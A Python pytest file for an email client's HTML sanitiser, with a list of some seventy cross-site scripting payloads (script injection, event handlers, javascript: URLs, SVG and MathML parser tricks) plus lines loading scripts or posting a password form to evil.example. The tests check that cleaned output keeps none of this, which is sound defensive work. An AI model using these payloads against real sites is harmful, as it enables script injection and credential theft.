"""Cleaned HTML cannot run, load, style or post anything: judged on the parsed result, not on its text."""

from html.parser import HTMLParser

import pytest

from cha.channels.email.reading import clean_html, has_remote_images, html_text, show_images

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oneonerrorrror=alert(1)>",
    "<IMG SRC=\"jav\tascript:alert('x');\">",
    '<img src="javascript:alert(1)">',
    '<img """><script>alert(1)</script>">',
    "<img/src=`x`onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img srcset='https://evil.example/x.png 1x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Pg=='>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<body onload=alert(1)>hi",
    "<body background='https://evil.example/x.png'>hi",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='position:fixed;inset:0;width:expression(alert(1))'>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example)}</style>x",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input type=image src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=https://evil.example/x.png></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example' onclick=alert(1) id=x class=y name=z>x</a>",
    "<a href='https://ok.example' target=_self rel=opener>x</a>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<table background=javascript:alert(1)><td background=https://evil.example/x>x",
    "<p title=\"<img src=' width='1'>\">x</p><img src='https://evil.example/x.png'>",
    "<img alt='\" src=\"https://evil.example/x' src='cid:a'>",
    "<img data-src='javascript:alert(1)' src='cid:\" onerror=\"alert(1)'>",
    "<font face='x' onmouseover=alert(1)>x</font>",
    "<portal src=https://evil.example></portal>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<x contenteditable onblur=alert(1) tabindex=1>x",
    "<div dir='ltr\" onclick=\"alert(1)'>x</div>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<b onmouseover\x0b=alert(1)>x</b>",
]
ALLOWED = {
    "href", "rel", "target", "title", "dir", "lang", "alt", "width", "height", "data-src", "data-cid", "start", "type",
    "reversed", "value", "align", "valign", "border", "cellpadding", "cellspacing", "colspan", "rowspan", "scope",
    "span", "datetime",
}  # fmt: skip
NEVER = {
    "script", "style", "svg", "math", "iframe", "object", "embed", "applet", "form", "input", "button", "textarea",
    "select", "link", "meta", "base", "video", "audio", "source", "template", "noscript", "frame", "frameset",
    "marquee", "portal", "body", "xmp", "plaintext", "title",
}  # fmt: skip


class Elements(HTMLParser):
    """Every element of a document with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


@pytest.mark.parametrize("payload", XSS)
def test_hostile_markup_is_harmless(payload: str) -> None:
    cleaned = clean_html(f"<p>before</p>{payload}<p>after</p>", [])
    for tag, attributes in Elements(cleaned).found:
        assert tag not in NEVER
        assert set(attributes) <= ALLOWED
        assert attributes.get("href", "https:").split(":")[0].lower() in ("http", "https", "mailto", "tel")
        assert attributes.get("data-src", "https:").split(":")[0].lower() in ("http", "https")
        if tag == "a" and "href" in attributes:
            assert attributes["target"] == "_blank"
            assert attributes["rel"] == "noopener noreferrer nofollow"


@pytest.mark.parametrize("payload", XSS)
def test_showing_images_adds_only_images(payload: str) -> None:
    files = {'" onerror="alert(1)': "/files/1?a=1&b=2", "a": "/files/2"}
    shown = show_images(clean_html(payload, []), remote=True, files=files)
    for tag, attributes in Elements(shown).found:
        assert tag not in NEVER
        assert not any(name.startswith("on") or name == "style" for name in attributes)
        if "src" in attributes:
            assert tag == "img"
            assert attributes["src"].startswith(("http://", "https://", "/files/"))


def test_remote_images_wait_for_a_click() -> None:
    cleaned = clean_html('<img src="https://shop.example/a.png" alt="A rose" width=10><img src="cid:r@x">', [])
    assert Elements(cleaned).found == [
        ("img", {"data-src": "https://shop.example/a.png", "alt": "A rose", "width": "10"}),
        ("img", {"data-cid": "r@x"}),
    ]
    assert has_remote_images(cleaned)
    own = Elements(show_images(cleaned, files={"r@x": "/f/1"})).found
    assert ["src" in attributes for _, attributes in own] == [False, True]


def test_markup_far_too_rich_is_read_as_text() -> None:
    problems: list[str] = []
    cleaned = clean_html("<div>" * 100_000 + "hello", problems)
    assert "hello" in cleaned
    assert len(Elements(cleaned).found) == 1
    assert problems


def test_text_of_html_reads_like_a_letter() -> None:
    html = clean_html(
        "<p>Dear  all,</p><ul><li>one</li><li>two</li></ul><p>See <a href='https://x.example/y'>the page</a></p>"
        "<blockquote><p>old words</p></blockquote><table><tr><td>Roses</td><td>12</td></tr></table>",
        [],
    )
    assert html_text(html).split("\n") == [
        "Dear all,", "", "- one", "- two", "", "See the page <https://x.example/y>", "",
        "> old words", ">", "Roses  12",
    ]  # fmt: skip


def test_tag_with_far_too_many_attributes_is_read_as_text() -> None:
    many = " ".join(f"a{number}=b" for number in range(50_000))
    for html in (f"<p {many}>Hello</p>", f'<p x=">" {many}>Hello</p>', f"<p {many.replace('=b', '')}>Hello</p>"):
        problems: list[str] = []
        assert "Hello" in clean_html(html, problems)
        assert problems == ["markup far too rich to be shown"]
    long = f'<p style="{"margin: 0; " * 300}">{"Many words, = and so on. " * 9000}</p>'
    problems = []
    assert clean_html(long, problems).startswith("<p")
